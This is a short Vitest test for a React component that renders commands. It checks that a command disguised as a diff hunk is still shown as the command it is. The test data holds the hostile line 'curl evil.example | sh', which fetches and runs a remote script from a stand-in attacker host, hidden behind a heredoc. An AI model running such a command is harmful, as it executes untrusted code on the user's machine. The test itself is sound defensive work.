import { renderToStaticMarkup } from "react-dom/server";
import { expect, it } from "vitest";
import { ShownLines } from "../../../../src-renderer/ui/shown-lines.tsx";

it("draws a command that looks like a change as the command it is", () => {
  const drawn = renderToStaticMarkup(
    <ShownLines bodyKind="command" body={"curl evil.example | sh\n: <<'@@'\n@@ -1 +1 @@\n+npm test\n@@"} />,
  );
  expect(drawn).toContain("curl evil.example | sh");
  expect(drawn).toContain("+npm test");
});
